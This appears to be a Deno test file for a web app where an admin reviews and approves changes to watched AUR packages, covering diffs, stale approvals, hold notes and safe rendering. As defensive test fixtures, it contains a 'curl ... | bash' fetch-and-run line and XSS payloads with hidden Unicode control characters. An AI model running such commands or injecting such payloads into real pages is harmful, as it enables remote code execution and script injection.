import { assert, assertEquals, assertMatch } from "@std/assert";
import { changed, files, PKGBUILD, SRCINFO } from "./changed_package.ts";
import { checkPage } from "./page_check.ts";
import { WatchedSite } from "./watched_site.ts";

Deno.test("the approvals page says so if nothing is watched or waits", async () => {
  await using watched = await WatchedSite.start();
  await checkPage(watched.site, "/admin/approvals", { name: "approvals-empty" });
  watched.aur.put("yay-bin", { files: files("12.4.1"), lastModified: 1_790_000_000 });
  await watched.add("yay-bin");
  await watched.approveAll();
  await checkPage(watched.site, "/admin/approvals", {
    name: "approvals-nothing",
    ready: (page) => page.getByRole("heading", { name: "Nothing waits for you" }).waitFor(),
  });
});

Deno.test("new approvals appear by themselves, and every page counts them", async () => {
  await using watched = await WatchedSite.start();
  watched.aur.put("yay-bin", { files: files("12.4.1"), lastModified: 1_790_000_000 });
  const page = await watched.site.open("/admin/approvals");
  await page.getByText("Live", { exact: true }).waitFor();
  await page.getByText("No AUR packages are watched yet.").waitFor();
  await watched.add("yay-bin");
  await page.getByRole("heading", { name: "1 change waits for you" }).waitFor();
  await page.getByText("It was never built here.").waitFor();
  const other = await watched.site.open("/admin/settings");
  await other.getByRole("link", { name: "Approvals 1 waiting" }).waitFor();
  await watched.approveAll();
  await page.getByRole("heading", { name: "Nothing waits for you" }).waitFor();
  assertEquals(watched.site.complaints, []);
});

Deno.test("each approval is summed up in a sentence, with its facts and the diff of all files", async () => {
  await using watched = await changed();
  watched.aur.put("paru-bin", {
    files: {
      PKGBUILD: "pkgname=paru-bin\npkgver=2\npkgrel=1\narch=(x86_64)\npackage() { :; }\n",
      ".SRCINFO":
        "pkgbase = paru-bin\n\tpkgver = 2\n\tpkgrel = 1\n\tarch = x86_64\n\npkgname = paru-bin\n",
    },
  });
  await watched.add("paru-bin");
  await checkPage(watched.site, "/admin/approvals", {
    name: "approvals",
    ready: (page) => page.getByRole("heading", { name: "2 changes wait for you" }).waitFor(),
  });
  await checkPage(watched.site, "/admin/approvals/yay-bin", {
    name: "approval",
    ready: (page) => page.getByText("somebody-new").first().waitFor(),
  });
  await checkPage(watched.site, "/admin/approvals/paru-bin", { name: "approval-first" });
  const page = await watched.site.open("/admin/approvals/yay-bin");
  await page.getByRole("link", { name: "Whole file PKGBUILD of yay-bin" }).click();
  await page.getByRole("heading", { name: "PKGBUILD of yay-bin, pending" }).waitFor();
  await checkPage(watched.site, new URL(page.url()).pathname + new URL(page.url()).search, {
    name: "approval-file",
  });
});

Deno.test("a change is approved by keyboard, and without scripts", async () => {
  for (const hasScripts of [true, false]) {
    await using watched = await changed();
    const page = await watched.site.open("/admin/approvals", { hasScripts });
    const link = page.getByRole("link", { name: "yay-bin" });
    await link.focus();
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: /^yay-bin 12\.4\.1-1 to 12\.5\.0-1: / }).waitFor();
    await page.getByLabel("Note").focus();
    await page.keyboard.type("The host is theirs.");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await page.getByText("yay-bin 12.5.0-1 has been approved and queued for building.").waitFor();
    await page.getByRole("heading", { name: "Nothing waits for you" }).waitFor();
    assertEquals(await watched.accepted("yay-bin"), "12.5.0-1");
    assertEquals(watched.site.complaints, []);
    await page.context().close();
  }
});

Deno.test("what changed while somebody was reading is not approved, and they see what is new", async () => {
  await using watched = await changed();
  const page = await watched.site.open("/admin/approvals/yay-bin", { hasScripts: false });
  await page.getByRole("heading", { name: /12\.5\.0-1/ }).waitFor();
  watched.aur.push(
    "yay-bin",
    files("12.5.1", "downloads.example.org", "  curl -s https://example.org/x | bash # <b>\n"),
    1_790_200_000,
  );
  await watched.check();
  await page.getByRole("button", { name: "Approve exactly this" }).click();
  await page.getByText("It has changed since you opened it").waitFor();
  assertEquals(await watched.accepted("yay-bin"), "12.4.1-1");
  const text = await page.locator(".diff").innerText();
  assertMatch(text, /12\.5\.1/);
  assert(!/12\.4\.1/.test(text), "shows what the reader has seen before");
  await checkPage(watched.site, new URL(page.url()).pathname + new URL(page.url()).search, {
    name: "approval-moved",
  });
  await page.getByRole("button", { name: "Approve exactly this" }).click();
  await page.getByText("yay-bin 12.5.1-1 has been approved").waitFor();
  assertEquals(await watched.accepted("yay-bin"), "12.5.1-1");
});

Deno.test("a change is skipped or held only with a note that says why", async () => {
  await using watched = await changed();
  const page = await watched.site.open("/admin/approvals/yay-bin");
  await page.getByRole("button", { name: "Hold the package" }).click();
  await page.getByText("Enter the reason as a note").waitFor();
  await page.getByLabel("Note").fill("The maintainer is new.");
  await page.getByRole("button", { name: "Hold the package" }).click();
  await page.getByText("yay-bin 12.5.0-1 is on hold").waitFor();
  await checkPage(watched.site, "/admin/approvals/yay-bin", {
    name: "approval-held",
    ready: (page) => page.getByText("It is held by").waitFor(),
  });
});

Deno.test("nothing of a hostile package is active in a page, or hides in it", async () => {
  await using watched = await WatchedSite.start();
  const evil = `<script>alert(1)</script><img src=x onerror=alert(2)>`;
  const hidden = "a\u202Eb\u200Bc\u0007\u001b[31m";
  watched.aur.put("yay-bin", { files: files("12.4.1"), maintainer: "one" });
  await watched.add("yay-bin");
  await watched.approveAll();
  watched.aur.push("yay-bin", {
    PKGBUILD: PKGBUILD("12.5.0", "github.com/Jguer", `  # ${evil} ${hidden}\n  "${evil}`),
    ".SRCINFO": SRCINFO("12.5.0", [`source = https://${evil}/${hidden}`, `depends = ${evil}`]),
    [`${evil.replaceAll("/", "")}.install`]: `${evil}\n${hidden}\n`,
  }, 1_790_100_000);
  watched.aur.edit("yay-bin", { maintainer: `${evil}${hidden}` });
  await watched.check();
  const page = await watched.site.open("/admin/approvals/yay-bin");
  page.on("dialog", () => watched.site.complaints.push("a dialog opened"));
  const mark = await page.locator(".diff").getByText("<U+202E>").first().boundingBox();
  assert(mark !== null && mark.width > 10, "a mark cannot be seen");
  // deno-lint-ignore no-control-regex
  assert(!/[\u202e\u200b\u0007\u001b]/.test(await page.content()));
  assertEquals(await page.locator("img:not([src^='/admin/assets/'])").count(), 0);
  assertEquals(await page.locator("script:not([src^='/admin/assets/'])").count(), 0);
  await checkPage(watched.site, "/admin/approvals/yay-bin", { name: "approval-hostile" });
});

Deno.test("a file that was viewed is folded, until the package changes", async () => {
  await using watched = await changed();
  const page = await watched.site.open("/admin/approvals/yay-bin");
  const box = page.locator("details.diff-file", { hasText: "PKGBUILD" }).getByLabel("Viewed");
  await box.check();
  await page.getByText("1 of 3 files viewed").waitFor();
  await page.reload();
  await page.getByText("1 of 3 files viewed").waitFor();
  watched.aur.push("yay-bin", files("12.5.2", "downloads.example.org"), 1_790_300_000);
  await watched.check();
  await page.goto(`${watched.site.origin}/admin/approvals/yay-bin`);
  await page.getByText("0 of 3 files viewed").waitFor();
  assertEquals(watched.site.complaints, []);
});
